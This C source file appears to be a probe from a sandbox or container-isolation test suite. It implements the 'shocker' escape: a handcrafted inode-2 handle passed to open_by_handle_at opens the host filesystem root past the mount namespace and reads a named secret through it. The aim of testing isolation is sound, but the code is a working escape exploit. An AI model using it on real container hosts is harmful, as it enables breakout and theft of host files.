/* open_by_handle: the "shocker" technique. With CAP_DAC_READ_SEARCH,
 * open_by_handle_at() opens any inode of a filesystem by number, ignoring the
 * mount namespace: handle {inode 2, generation 0} is the root directory of an
 * ext2/3/4 filesystem, so one call reaches the host's whole disk from any
 * bind mount of it. Tried against every mount we can see, plus a handle of our
 * own cwd (which needs the same capability). */
#include "probe.h"

struct h8 {
    unsigned int handle_bytes;
    int handle_type;
    unsigned char f_handle[128];
};

static void try_root_handle(struct probe_res *r, const char *mnt, const char *secret)
{
    int mfd = open(mnt, O_RDONLY | O_CLOEXEC);
    if (mfd < 0)
        return;
    struct h8 h = {.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */};
    uint32_t ino = 2, gen = 0;
    memcpy(h.f_handle, &ino, 4);
    memcpy(h.f_handle + 4, &gen, 4);
    int fd = open_by_handle_at(mfd, (struct file_handle *)&h, O_RDONLY | O_DIRECTORY);
    if (fd >= 0) {
        int e;
        bool got = secret && read_secret_at(fd, secret[0] == '/' ? secret + 1 : secret, &e);
        res_escape(r, "inode 2 of the filesystem under %s opened%s", mnt,
                   got ? ", secret read through it" : "");
        close(fd);
    } else {
        res_note(r, "%s: %s", mnt, ename(errno));
    }
    close(mfd);
}

static void probe_attempt(struct probe_res *r)
{
    const char *secret = parg("secret");
    static const char *const mnts[] = {".", "/usr", "/etc", "/tmp", "/", "/proc"};
    for (size_t i = 0; i < sizeof(mnts) / sizeof(mnts[0]); i++)
        try_root_handle(r, mnts[i], secret);

    struct h8 h = {.handle_bytes = sizeof(h.f_handle)};
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, ".", (struct file_handle *)&h, &mount_id, 0) < 0) {
        res_note(r, "name_to_handle_at: %s", ename(errno));
        return;
    }
    int fd = open_by_handle_at(AT_FDCWD, (struct file_handle *)&h, O_RDONLY);
    if (fd >= 0) {
        close(fd);
        res_escape(r, "open_by_handle_at on our own cwd handle worked");
    } else {
        res_note(r, "own handle: %s", ename(errno));
    }
}

PROBE_MAIN("open_by_handle")
